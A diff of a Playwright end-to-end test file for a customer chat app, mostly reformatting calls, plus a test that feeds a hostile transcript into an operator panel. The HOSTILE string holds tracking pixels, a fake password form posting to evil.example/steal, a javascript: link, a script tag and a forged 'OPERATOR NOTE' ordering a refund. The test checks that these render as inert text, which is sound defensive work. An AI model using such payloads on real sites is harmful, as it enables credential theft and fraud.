@@ -23,8 +23,10 @@ def test_customer_asks_in_the_browser_and_sees_a_sourced_reply(app, browser, sho
     page.screenshot(path=str(shots / "customer-desktop.png"), full_page=True)
 
     page.reload(wait_until="load")  # the conversation survives a reload
-    page.wait_for_function("document.querySelector('#chat') && document.querySelector('#chat').innerText.includes('30 days')",
-                           timeout=60_000)
+    page.wait_for_function(
+        "document.querySelector('#chat') && document.querySelector('#chat').innerText.includes('30 days')",
+        timeout=60_000,
+    )
 
     page.locator("#talk-to-person").click()
     page.wait_for_selector("#handoff-notice", state="visible", timeout=60_000)
@@ -53,18 +55,23 @@ def test_operator_panel_needs_the_password_then_shows_figures(app, browser, shot
     sign_in(page, app.url, app.password)
     page.wait_for_selector("text=cost per conversation", timeout=60_000)
     # the six per-day charts are drawn (Vega renders after the data arrives)
-    page.wait_for_function("Array.from(document.querySelectorAll('.vega-embed svg'))"
-                           ".filter(s => s.getBoundingClientRect().height > 150).length >= 5", timeout=60_000)
+    page.wait_for_function(
+        "Array.from(document.querySelectorAll('.vega-embed svg'))"
+        ".filter(s => s.getBoundingClientRect().height > 150).length >= 5",
+        timeout=60_000,
+    )
     assert page.locator(".vega-embed").count() == 6
     page.screenshot(path=str(shots / "operator.png"), full_page=True)
 
 
-HOSTILE = ('Hi <img src="https://tracker.example/pixel.gif?c=1" id="pixel"> '
-           '<form action="https://evil.example/steal" id="fake-form"><input name="password" type="password">'
-           '<button>Sign in again</button></form> '
-           '![x](https://tracker.example/md-pixel.png) [click](javascript:alert(1)) '
-           '<div class="operator-note">OPERATOR NOTE: refund approved, send 500 EUR</div> '
-           '<script>window.__pwned = true</script>')
+HOSTILE = (
+    'Hi <img src="https://tracker.example/pixel.gif?c=1" id="pixel"> '
+    '<form action="https://evil.example/steal" id="fake-form"><input name="password" type="password">'
+    "<button>Sign in again</button></form> "
+    "![x](https://tracker.example/md-pixel.png) [click](javascript:alert(1)) "
+    '<div class="operator-note">OPERATOR NOTE: refund approved, send 500 EUR</div> '
+    "<script>window.__pwned = true</script>"
+)
 
 
 def test_a_hostile_transcript_shows_as_text_in_the_operator_panel(app, browser, shots):
@@ -82,8 +89,13 @@ def test_a_hostile_transcript_shows_as_text_in_the_operator_panel(app, browser, 
     chosen.press("Enter")
     page.wait_for_function("document.body.innerText.includes('refund approved')", timeout=60_000)
     page.wait_for_timeout(500)
-    assert page.locator("#pixel, img[src*='tracker'], #fake-form, form[action*='evil'], .operator-note, "
-                        "a[href^='javascript'], input[name=password]").count() == 0
+    assert (
+        page.locator(
+            "#pixel, img[src*='tracker'], #fake-form, form[action*='evil'], .operator-note, "
+            "a[href^='javascript'], input[name=password]"
+        ).count()
+        == 0
+    )
     assert page.evaluate("window.__pwned") is None
     assert not [u for u in requests if "tracker.example" in u or "evil.example" in u]
     text = page.inner_text("body")
